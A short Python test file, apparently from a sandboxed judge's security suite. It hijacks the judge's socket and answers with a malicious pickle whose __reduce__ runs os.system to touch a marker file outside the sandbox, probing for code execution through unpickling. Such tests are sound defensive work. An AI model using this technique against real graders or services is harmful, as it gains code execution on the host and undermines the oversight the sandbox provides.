"""tries: answer the judge with something that runs code when it is unpickled

after: marks
"""

import os, pickle, socket, struct

from tornado.ioloop import IOLoop


def answer_with(make):
    loop = IOLoop.current()
    wires = (wire for wire, _ in loop.handlers.values())
    wire = next(wire for wire in wires if isinstance(wire, socket.socket))

    def answer(*event):
        _, number, length = struct.unpack("<cQQ", wire.recv(17))
        while length > 0:
            length -= len(wire.recv(length))
        content = make()
        wire.sendall(struct.pack("<cQQ", b"b", number, len(content)) + content)

    loop.remove_handler(wire)
    loop.add_handler(wire, answer, loop.READ)


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/unpickled",)


answer_with(lambda: pickle.dumps(Bomb()))
